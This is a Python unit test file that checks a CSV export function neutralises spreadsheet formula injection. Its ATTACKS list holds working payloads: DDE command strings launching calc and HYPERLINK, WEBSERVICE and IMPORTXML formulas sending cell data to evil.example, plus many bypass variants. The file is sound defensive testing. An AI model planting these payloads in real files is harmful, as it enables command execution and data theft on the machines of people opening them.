"""No cell of a file acts when a spreadsheet opens it."""

import csv
import io
import unittest
from datetime import UTC, date, datetime
from decimal import Decimal

from harmoniously.core.common.csv_export import cell, lines

# What began a formula in exports of others: commands, look-ups that carry a row away, and ways around a simple check.
ATTACKS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"Open")',
    '=WEBSERVICE("https://evil.example")',
    '=IMPORTXML("https://evil.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=@SUM(1)",
    "==1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "++1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "@SUM(1+1)",
    "@=1",
    "@cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\tplain",
    "\rplain",
    "\nplain",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\u2028=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    '"=1+1',
    "'=1+1",
    "plain\n=1+1",
    "plain;=1+1",
    'plain","=1+1',
    "plain\t=1+1",
    "plain; =1+1;",
    'plain;"=1+1;',
    'plain;"" \u200b@SUM(1);',
    "plain;;\uff1d1+1;;-1;",
)


class Cells(unittest.TestCase):
    def test_no_text_begins_a_formula(self) -> None:
        for text in ATTACKS:
            said = str(cell(text))
            first = said.strip().lstrip("\u200b\ufeff\x00")[:1]
            self.assertNotIn(first, set("=+-@\uff1d\uff0b\uff0d\uff20"), text)
            self.assertFalse({"\t", "\r", "\n", "\x00", "\u2028"} & set(said), text)

    def test_every_attack_stays_one_cell_whatever_separates_the_cells(self) -> None:
        [_header, *rows] = lines(["what", "after"], [(text, "end") for text in ATTACKS])
        self.assertEqual(len(rows), len(ATTACKS))
        for text, row in zip(ATTACKS, rows, strict=True):
            self.assertEqual(row.count("\n"), 1, text)
            [read] = csv.reader(io.StringIO(row))
            self.assertEqual(read, [cell(text), "end"], text)
            for other in ";\t|":
                self.assertEqual(len(next(csv.reader(io.StringIO(row), delimiter=other))), 1, text)

    def test_no_cell_acts_where_the_computer_is_set_to_semicolons(self) -> None:
        """There the quotes of every column but the first are no quotes."""
        for row in lines(["what", "who", "after"], [(1, text, text) for text in ATTACKS]):
            for read in next(csv.reader(io.StringIO(row), delimiter=";")):
                self.assertNotIn(read.strip().lstrip("\u200b\ufeff\x00")[:1], set("=+-@\uff1d\uff0b\uff0d\uff20"), row)

    def test_values_stay_what_they_are(self) -> None:
        for value, said in (
            (-5, -5),
            (Decimal("-1.50"), Decimal("-1.50")),
            (0, 0),
            (None, ""),
            (True, "yes"),
            (False, "no"),
            ("", ""),
            ("Zoë O'Hara", "Zoë O'Hara"),
            ("a - b = c", "a - b = c"),
            ("10 % @ noon", "10 % @ noon"),
            ("called; no answer; -", "called; no answer;' -"),
            (date(2026, 3, 4), "2026-03-04"),
            (datetime(2026, 3, 4, 17, 5, tzinfo=UTC), "2026-03-04 17:05:00"),
        ):
            self.assertEqual(cell(value), said)
